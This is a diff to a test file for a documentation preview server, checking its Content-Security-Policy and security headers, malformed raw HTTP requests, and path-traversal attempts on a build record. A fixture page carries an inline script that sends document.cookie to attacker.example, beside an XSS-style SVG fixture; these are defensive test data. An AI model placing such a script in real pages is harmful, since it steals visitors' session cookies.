@@ -9,7 +9,7 @@
  */
 import { spawn, type ChildProcess } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { rename } from 'node:fs/promises';
 import { request, type Server } from 'node:http';
 import { connect, type AddressInfo, type Socket } from 'node:net';
@@ -18,7 +18,7 @@ import { join, resolve } from 'node:path';
 import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { baseUrlBannerScript, redirectPage } from '@hpcdocs/router/server';
-import { acceptedEncodings, createPreviewServer, inlineScriptHashes, isHashedAsset, sitePolicy, SVG_POLICY } from '../scripts/serve.mjs';
+import { acceptedEncodings, createPreviewServer, INLINE_SCRIPTS_FILE, inlineScriptHashes, isHashedAsset, sitePolicy, SVG_POLICY } from '../scripts/serve.mjs';
 import { findNginx, startNginx } from '../nginx/nginx.mjs';
 
 interface Reply {
@@ -33,6 +33,8 @@ const banner = baseUrlBannerScript('/doc/');
 const page = `<!doctype html><html><head><title>Quickstart</title>${banner}<script id="__hpc_boot" type="application/json">{"route":null}</script></head><body>${'<p>GPU instances.</p>'.repeat(100)}</body></html>`;
 const pageBr = brotliCompressSync(page);
 const pageGz = gzipSync(page);
+/** A page into which something other than the build put an inline script (a doc that slipped one through, a page of the static folder). */
+const injected = page.replace('</head>', '<script>fetch("https://attacker.example/?c="+document.cookie)</script></head>');
 const script = 'export const answer = 42;\n'.repeat(100);
 const big = randomBytes(32 * 1024 * 1024);
 const evilSvg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';
@@ -75,6 +77,9 @@ function makeSite(workspace: string): string {
     writeFileSync(join(site, path), content);
   };
   write('index.html', page);
+  write('docs/injected/index.html', injected);
+  // The build's record of the inline scripts it wrote: here, the banner every page carries.
+  write(INLINE_SCRIPTS_FILE, JSON.stringify({ scripts: inlineScriptHashes(banner) }));
   write('docs/quickstart/index.html', page);
   write('docs/quickstart/index.html.gz', pageGz);
   write('docs/quickstart/index.html.br', pageBr);
@@ -113,6 +118,11 @@ function client(origin: string) {
 
 /** The raw bytes of a response's status line and headers, for what an HTTP client would hide. */
 function rawHead(origin: string, path: string): Promise<Buffer> {
+  return rawExchange(origin, `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
+}
+
+/** Sends `request` as it is written, bytes a client library would refuse to send included; resolves with the response's head. */
+function rawExchange(origin: string, request: string): Promise<Buffer> {
   const { hostname, port } = new URL(origin);
   return new Promise((done, fail) => {
     const socket = connect(Number(port), hostname);
@@ -127,7 +137,8 @@ function rawHead(origin: string, path: string): Promise<Buffer> {
       }
     });
     socket.on('error', fail);
-    socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
+    socket.on('end', () => done(Buffer.concat(chunks)));
+    socket.write(request, 'latin1');
   });
 }
 
@@ -441,6 +452,23 @@ describe.each([
       expect(reply.headers['x-frame-options']).toBe('SAMEORIGIN');
     });
 
+    // Requests the HTTP layer answers before any handler runs: Node's own parser and checks, nginx's.
+    it.each([
+      ['no Host header (HTTP/1.1)', 'GET /doc/ HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
+      // HTTP lets a server ignore an expectation it does not know (nginx does): both answer the request.
+      ['an Expect other than 100-continue', 'GET /doc/ HTTP/1.1\r\nHost: localhost\r\nExpect: the-impossible\r\nConnection: close\r\n\r\n', 200],
+      ['a header line without a colon', 'GET /doc/ HTTP/1.1\r\nHost: localhost\r\nBad Header Line\r\n\r\n', 400],
+      ['a space in the header name', 'GET /doc/ HTTP/1.1\r\nHost: localhost\r\nBad Name: x\r\n\r\n', 400],
+    ])('should answer a request with %s with its status and the security headers', async (_, request, status) => {
+      const head = (await rawExchange(origin, request)).toString('latin1');
+      expect(head).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
+      const headers = new Map(head.split('\r\n').slice(1).map((line) => [line.slice(0, line.indexOf(':')).toLowerCase(), line.slice(line.indexOf(':') + 1).trim()]));
+      expect(headers.get('content-security-policy')).toMatch(/frame-ancestors 'self'/);
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+      expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
+      expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
+    });
+
     it('should send 304s the same headers', async () => {
       const etag = String((await send('/doc/docs/quickstart/')).headers['etag']);
       const reply = await send('/doc/docs/quickstart/', { 'If-None-Match': etag });
@@ -455,6 +483,20 @@ describe.each([
       expect(reply.headers['content-security-policy']).toBe(sitePolicy(inlineScriptHashes(banner)));
       expect(String(reply.headers['content-security-policy'])).toMatch(/script-src 'self' 'sha256-[^']+'; /);
       expect(String(reply.headers['content-security-policy'])).not.toMatch(/script-src[^;]*unsafe/);
+    });
+
+    it('should not allow an inline script the build did not write', async () => {
+      const reply = await send('/doc/docs/injected/');
+      expect(reply.body.toString()).toBe(injected);
+      expect(reply.headers['content-security-policy']).toBe(sitePolicy(inlineScriptHashes(banner)));
+    });
+
+    it("should never serve the build's record of its inline scripts", async () => {
+      for (const path of [`/doc/${INLINE_SCRIPTS_FILE}`, `/doc//${INLINE_SCRIPTS_FILE}`, `/doc/%2E${INLINE_SCRIPTS_FILE.slice(1)}`, `/doc/docs/../${INLINE_SCRIPTS_FILE}`]) {
+        const reply = await send(path);
+        expect(reply.status, path).toBe(404);
+        expect(reply.body.toString()).not.toContain('sha256-');
+      }
     });
 
     it('should sandbox an SVG opened on its own so it cannot run script', async () => {
@@ -478,6 +520,7 @@ describe('given the preview server alone', () => {
     const site = makeSite(workspace);
     mkdirSync(join(site, 'docs/moved'), { recursive: true });
     writeFileSync(join(site, 'docs/moved/index.html'), redirectPage('/doc/docs/quickstart/', 'Moved'));
+    writeFileSync(join(site, INLINE_SCRIPTS_FILE), JSON.stringify({ scripts: inlineScriptHashes(banner + redirectPage('/doc/docs/quickstart/', 'Moved')) }));
     symlinkSync(join(site, 'sitemap.xml'), join(site, 'map-link.xml'));
     symlinkSync(join(site, 'docs/quickstart'), join(site, 'docs/start'));
     server = createPreviewServer({ dir: site });
@@ -490,10 +533,25 @@ describe('given the preview server alone', () => {
     rmSync(workspace, { recursive: true, force: true });
   });
 
-  it('should allow a redirect page its own inline script, whatever its target', async () => {
+  it('should allow a redirect page its own inline script, which the build recorded', async () => {
     const reply = await send('/doc/docs/moved/');
     const [hash] = inlineScriptHashes(redirectPage('/doc/docs/quickstart/', 'Moved'));
     expect(reply.headers['content-security-policy']).toBe(sitePolicy([String(hash)]));
+  });
+
+  it('should allow no inline script at all in a folder without the record, or with a record changed since', async () => {
+    const record = join(workspace, 'site', INLINE_SCRIPTS_FILE);
+    const text = readFileSync(record, 'utf8');
+    try {
+      rmSync(record);
+      // The record is looked at again within a second.
+      await expect.poll(async () => (await send('/doc/docs/quickstart/')).headers['content-security-policy'], { timeout: 10_000 }).toBe(sitePolicy());
+      writeFileSync(record, '{"scripts": "not a list"}');
+      await expect.poll(async () => (await send('/doc/docs/quickstart/')).headers['content-security-policy'], { timeout: 10_000 }).toBe(sitePolicy());
+    } finally {
+      writeFileSync(record, text);
+    }
+    await expect.poll(async () => (await send('/doc/docs/quickstart/')).headers['content-security-policy'], { timeout: 10_000 }).toBe(sitePolicy(inlineScriptHashes(banner)));
   });
 
   it('should percent-encode a redirect\'s non-ASCII path and CR/LF', async () => {
@@ -523,23 +581,6 @@ describe('given the preview server alone', () => {
     const reply = await send('/doc/swapped.txt');
     expect(reply.status).toBe(404);
     expect(reply.body.toString()).not.toContain('root:');
-  });
-
-  it('should answer a malformed request with 400 and the security headers', async () => {
-    const { port } = server.address() as AddressInfo;
-    const head = await new Promise<string>((done, fail) => {
-      const socket = connect(port, '127.0.0.1');
-      let text = '';
-      socket.on('data', (chunk: Buffer) => {
-        text += chunk.toString('latin1');
-      });
-      socket.on('end', () => done(text));
-      socket.on('error', fail);
-      socket.write('GET /doc/ HTTP/1.1\r\nHost: localhost\r\nBad Header Line\r\n\r\n');
-    });
-    expect(head).toMatch(/^HTTP\/1\.1 400 /);
-    expect(head).toContain('X-Content-Type-Options: nosniff');
-    expect(head).toContain("frame-ancestors 'self'");
   });
 });
 
